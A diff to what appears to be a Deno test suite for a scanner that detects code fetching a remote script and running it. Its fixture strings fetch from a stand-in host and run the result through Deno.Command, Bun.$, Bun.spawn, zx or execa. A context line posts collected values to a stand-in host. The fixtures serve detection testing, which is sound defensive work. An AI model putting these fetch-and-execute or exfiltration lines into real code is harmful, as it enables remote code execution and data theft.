@@ -1987,6 +1987,23 @@ Deno.test("a key leaves by any road: a shell line concatenated around it, a TLS 
   assert.deepEqual(critical("scripts/l.sh", "#!/bin/bash\nping -c 1 collect.example.org\n"), []);
 });
 
+Deno.test("JavaScript runtimes' own ways to run a download: Deno's stdin writer, Bun.$ and zx's $ templates, Bun.write then spawn, execa", () => {
+  const fetched = 'const code = await (await fetch("https://get.example.net/p")).text();\n';
+  assertRunsOnlyIn(fetched, "ts", [
+    'const p = new Deno.Command("sh", { stdin: "piped" }).spawn();\nconst w = p.stdin.getWriter();\nawait w.write(new TextEncoder().encode(code));\n',
+    "await Bun.$`sh -c ${code}`;\n",
+    'await Bun.write("/tmp/x.sh", code);\nBun.spawnSync(["bash", "/tmp/x.sh"]);\n',
+  ], [
+    'const p = new Deno.Command("grep", { args: ["x"], stdin: "piped" }).spawn();\nconst w = p.stdin.getWriter();\nawait w.write(new TextEncoder().encode(code));\n',
+    "await Bun.$`echo ${code.length}`;\n",
+    'await Bun.write("/tmp/page.html", code);\n',
+  ]);
+  assertRunsOnlyIn(`import { $ } from "zx";\nimport { execa } from "execa";\n${fetched}`, "js", [
+    "await $`sh -c ${code}`;\n",
+    "await execa(code, { shell: true });\n",
+  ], ["await $`ls -la`;\n", 'await execa("git", ["status"]);\n']);
+});
+
 Deno.test("an environment getter handed as a value reads the variables the call names", () => {
   const send = 'urllib.request.urlopen("https://collect.example.org", data=str(vals).encode())\n';
   const sent = (line: string) =>
